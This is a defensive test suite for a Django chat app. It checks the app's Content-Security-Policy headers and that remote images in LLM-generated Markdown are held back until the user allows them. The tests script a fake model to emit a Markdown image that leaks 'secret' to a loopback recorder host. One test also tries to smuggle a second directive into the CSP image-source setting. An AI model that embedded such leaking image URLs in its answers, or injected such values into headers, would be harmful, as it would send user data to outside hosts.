"""The app's Content-Security-Policy, and remote images in chat Markdown held back until allowed.

The browser tests run the real app (daphne), worker, MCP test server and the recording LLM, and
a loopback HTTP server that records every request made to it (the would-be exfiltration target).
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from chat.tool_calls import calls_of
from chat.models import Conversation
from tests.helpers import start_daphne, stop_process, login_page, refresh_tools, run_call, wait_for
from tools.models import ToolCall

# A 1x1 transparent PNG.
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d4944415478da6360000002000001e221bc330000000049454e44ae426082"
)
CSP_PROBE = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__csp.push({directive: e.violatedDirective, blocked: e.blockedURI, source: e.sourceFile, sample: e.sample});
});
"""


# --- helpers ------------------------------------------------------------------------------------

class Recorder:
    """A loopback HTTP server that records the path of every request it gets."""

    def __init__(self):
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PIXEL)))
                self.end_headers()
                self.wfile.write(PIXEL)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def recorder():
    rec = Recorder()
    yield rec
    rec.stop()


@pytest.fixture(scope="module")
def live_app_allowing_images(django_db_setup, django_db_blocker, recorder):
    """A second daphne whose CSP allows images from the recorder (CSP_IMG_SRC), as a team would
    configure it: the allow button then really loads the image, so the test sees a request."""
    with django_db_blocker.unblock():
        app = start_daphne("daphne-csp.log", {"CSP_IMG_SRC": recorder.origin})
    yield app
    stop_process(app.proc)


def csp_directives(header: str) -> dict[str, list[str]]:
    out = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            out[words[0]] = words[1:]
    return out


def watch_csp(page) -> list[str]:
    """Collect CSP violations: the securitypolicyviolation events (read with `violations`) and
    the console's reports."""
    console: list[str] = []
    page.on("console", lambda msg: console.append(msg.text) if "Content Security Policy" in msg.text else None)
    page.add_init_script(CSP_PROBE)
    return console


def violations(page, console) -> list:
    return (page.evaluate("window.__csp || []") or []) + console


def chat_with(user, fake_llm, servers=()):
    conversation = Conversation.objects.create(owner=user, model="openai/test-model", api_base=fake_llm.url, api_key="sk-test")
    conversation.servers.set(servers)
    return conversation


# --- the header ---------------------------------------------------------------------------------

@pytest.mark.django_db
def test_every_main_origin_response_has_a_strict_policy(client, user, settings):
    settings.CSP_IMG_SRC = []
    client.force_login(user)
    for path in ["/", "/servers/", "/chat/", "/api/servers/", "/admin/login/", "/healthz"]:
        response = client.get(path)
        header = response.headers.get("Content-Security-Policy")
        assert header, path
        d = csp_directives(header)
        assert d["script-src"] == ["'self'"], path
        assert d["style-src"] == ["'self'"], path
        assert d["img-src"] == ["'self'", "data:"], path
        assert d["frame-src"] == [settings.SANDBOX_ORIGIN], path
        assert d["connect-src"] == ["'self'", "ws://testserver", "wss://testserver"], path
        assert d["object-src"] == ["'none'"] and d["base-uri"] == ["'self'"], path
        assert d["frame-ancestors"] == ["'none'"] and d["form-action"] == ["'self'"], path
        assert "'unsafe-inline'" not in header and "'unsafe-eval'" not in header
    # Errors too: the API's JSON 401 and a 404 page.
    client.logout()
    assert "Content-Security-Policy" in client.get("/api/servers/").headers
    client.force_login(user)
    assert "Content-Security-Policy" in client.get("/servers/999999/").headers


@pytest.mark.django_db
def test_csp_img_src_widens_only_images(client, user, settings):
    settings.CSP_IMG_SRC = ["https://img.example.com", "bad;script-src", "https:"]
    client.force_login(user)
    d = csp_directives(client.get("/").headers["Content-Security-Policy"])
    assert d["img-src"] == ["'self'", "data:", "https://img.example.com", "https:"]
    assert d["script-src"] == ["'self'"]


@pytest.mark.django_db
def test_sandbox_origin_keeps_its_own_policy(client, settings):
    host = settings.SANDBOX_HOST
    response = client.get("/sandbox/proxy/", HTTP_HOST=host)
    assert response.status_code == 200
    assert response.headers["Content-Security-Policy"] == f"frame-ancestors {settings.PUBLIC_URL}"


@pytest.mark.django_db
def test_pages_have_no_inline_script_or_style(client, user, basic_server):
    """Inline code would be refused by the policy: everything comes from static files."""
    client.force_login(user)
    for path in ["/", "/servers/", f"/servers/{basic_server.pk}/", "/servers/new/", f"/servers/{basic_server.pk}/edit/",
                 "/chat/", "/chat/new/", "/rpc-log/", "/account/tokens/", "/account/provider-keys/"]:
        html = client.get(path).content.decode()
        assert "<style" not in html and "style=" not in html and " onsubmit=" not in html, path
        for chunk in html.split("<script")[1:]:
            tag = chunk.split(">", 1)[0]
            assert "src=" in tag or 'type="application/json"' in tag, (path, tag)


# --- in the browser -------------------------------------------------------------------------------



@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("celery_worker")
def test_remote_image_loads_only_after_the_user_allows_it(browser, live_app_allowing_images, recorder, user, fake_llm,
                                                          screenshots):
    live = live_app_allowing_images
    recorder.hits.clear()
    conversation = chat_with(user, fake_llm)
    leak = f"{recorder.origin}/leak?d=secret"
    fake_llm.script([{"text": f"Here you go: ![x]({leak}) and a local one ![dot](data:image/png;base64,AAAA)",
                      "chunk_delay": 0.02}])
    page = login_page(browser, live, "alice", "alice-pass-123")
    console = watch_csp(page)
    page.goto(f"{live.url}/chat/{conversation.pk}/")
    page.wait_for_selector("#conn-state.ok")
    page.fill("#composer-text", "show me")
    page.press("#composer-text", "Enter")
    gate = page.wait_for_selector(f".msg.assistant:not(.streaming) button.image-gate[data-src='{leak}']", timeout=30000)
    assert gate.inner_text().startswith("Load image from 127.0.0.1:")
    page.wait_for_selector("#llm-view .llm-msg.assistant")
    # The page is idle (answer stored, "what the model sees" refreshed): still no request.
    page.wait_for_load_state("networkidle")
    assert recorder.hits == []
    assert page.locator(f".msg img[src^='{recorder.origin}']").count() == 0
    # A reload renders the stored message the same way.
    page.reload()
    page.wait_for_selector(f".msg.assistant button.image-gate[data-src='{leak}']")
    page.wait_for_load_state("networkidle")
    assert recorder.hits == []
    page.screenshot(path=str(screenshots / "chat-image-gate.png"), full_page=True)

    page.click(f"button.image-gate[data-src='{leak}']")
    wait_for(lambda: recorder.hits, message="the allowed image to be requested")
    assert recorder.hits == ["/leak?d=secret"]
    wait_for(lambda: page.evaluate("src => document.querySelector(`.msg img[src='${src}']`)?.naturalWidth", leak) == 1,
             message="the allowed image to render")
    page.screenshot(path=str(screenshots / "chat-image-allowed.png"), full_page=True)
    assert violations(page, console) == []
    page.context.close()


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("celery_worker")
def test_without_csp_img_src_an_allowed_remote_image_is_still_refused(browser, live_app, recorder, user, fake_llm):
    recorder.hits.clear()
    conversation = chat_with(user, fake_llm)
    leak = f"{recorder.origin}/leak?d=default-policy"
    fake_llm.script([{"text": f"![x]({leak})"}])
    page = login_page(browser, live_app, "alice", "alice-pass-123")
    watch_csp(page)
    page.goto(f"{live_app.url}/chat/{conversation.pk}/")
    page.wait_for_selector("#conn-state.ok")
    page.fill("#composer-text", "show me")
    page.press("#composer-text", "Enter")
    page.click(f".msg.assistant:not(.streaming) button.image-gate[data-src='{leak}']", timeout=30000)
    page.wait_for_selector(".msg .image-gate.failed")
    assert "CSP_IMG_SRC" in page.locator(".msg .image-gate.failed").inner_text()
    refused = page.evaluate("window.__csp")
    assert [v["directive"] for v in refused] == ["img-src"] and refused[0]["blocked"].startswith(recorder.origin)
    assert recorder.hits == []
    page.context.close()


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("celery_worker")
def test_pages_and_admin_run_under_the_policy(browser, live_app, admin_user, basic_server, screenshots):
    basic_server.owner = admin_user
    basic_server.save()
    refresh_tools(basic_server)
    call = run_call(basic_server, "echo", {"text": "under the policy"}, user=admin_user)
    page = login_page(browser, live_app, "root", "root-pass-123")
    console = watch_csp(page)
    checks = {
        "/": "h1",
        "/servers/": "table",
        f"/servers/{basic_server.pk}/": "#tools",
        f"/servers/{basic_server.pk}/edit/": ".field-url:not([hidden])",
        f"/servers/{basic_server.pk}/tools/add/": "#arg-a",
        "/rpc-log/": "#live-state:text('live')",
        "/admin/": "#content",
        "/admin/tools/toolcall/": "#result_list",
        f"/admin/tools/toolcall/{call.pk}/change/": "#full-json",
        f"/admin/tools/server/{basic_server.pk}/change/": "#server_form",
        "/admin/auth/user/": "#result_list",
    }
    for path, selector in checks.items():
        page.goto(f"{live_app.url}{path}")
        page.wait_for_selector(selector)
        page.wait_for_load_state("networkidle")
        assert violations(page, console) == [], path
    # Styles and scripts from static files took effect.
    page.goto(f"{live_app.url}/admin/tools/toolcall/{call.pk}/change/")
    assert page.eval_on_selector(".evidence", "e => getComputedStyle(e).display") == "grid"
    page.screenshot(path=str(screenshots / "admin-toolcall-change-csp.png"), full_page=True)
    page.goto(f"{live_app.url}/servers/{basic_server.pk}/tools/add/")
    page.fill("#arg-a", "20")
    page.fill("#arg-b", "22")
    page.click("#run-tool")
    page.wait_for_selector("#run-status.succeeded", timeout=30000)
    expect(page.locator("#full-result")).to_contain_text('"sum": 42', timeout=10000)
    # The delete confirmation (was an inline onsubmit) still asks, and "no" keeps the server.
    page.goto(f"{live_app.url}/servers/{basic_server.pk}/")
    page.once("dialog", lambda d: d.dismiss())
    page.click("button.danger:text('Delete')")
    page.wait_for_load_state("networkidle")
    assert page.url.endswith(f"/servers/{basic_server.pk}/")
    assert violations(page, console) == []
    page.context.close()


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("celery_worker")
def test_an_app_view_renders_under_the_policy(browser, live_app, user, fake_llm, app_server):
    """The chat page with an App view (AppBridge bundle, widget host styles, sandbox frame)
    reports no violation: the host's styles come from a stylesheet, zod runs without eval."""
    refresh_tools(app_server)
    conversation = chat_with(user, fake_llm, [app_server])
    fake_llm.script([{"tool_calls": [{"name": "apps__show_marker", "arguments": {"label": "c"}, "id": "c1"}]},
                     {"text": "Shown."}])
    page = login_page(browser, live_app, "alice", "alice-pass-123")
    console = watch_csp(page)
    page.goto(f"{live_app.url}/chat/{conversation.pk}/")
    page.wait_for_selector("#conn-state.ok")
    page.fill("#composer-text", "show the widget")
    page.press("#composer-text", "Enter")
    view = page.frame_locator(".widget-slot iframe").frame_locator("iframe")
    view.locator("#secret", has_text="STRUCTURED-MARKER-c").wait_for(timeout=30000)
    page.wait_for_selector(".msg.assistant >> text=Shown.", timeout=30000)
    assert page.eval_on_selector(".mcp-widget", "e => getComputedStyle(e).position") == "relative"
    assert violations(page, console) == []
    # The same view in the workbench, and on the tool page after a run.
    call = calls_of(conversation).get(tool_name="show_marker")
    page.goto(f"{live_app.url}/tool-calls/{call.pk}/workbench/")
    page.frame_locator("#wb-view iframe").frame_locator("iframe").locator("#secret", has_text="STRUCTURED-MARKER-c").wait_for(timeout=30000)
    page.wait_for_selector("#console tbody tr")
    assert page.eval_on_selector("#wb-view .mcp-widget", "e => getComputedStyle(e).position") == "relative"
    assert violations(page, console) == [], "workbench"
    page.goto(f"{live_app.url}/servers/{app_server.pk}/tools/show_marker/")
    page.click("[data-mode=json]")
    page.fill("#raw-args", '{"label": "t"}')
    page.click("#run-tool")
    page.frame_locator("#run-view iframe").frame_locator("iframe").locator("#secret", has_text="STRUCTURED-MARKER-t").wait_for(timeout=30000)
    assert violations(page, console) == [], "tool page"
    page.context.close()
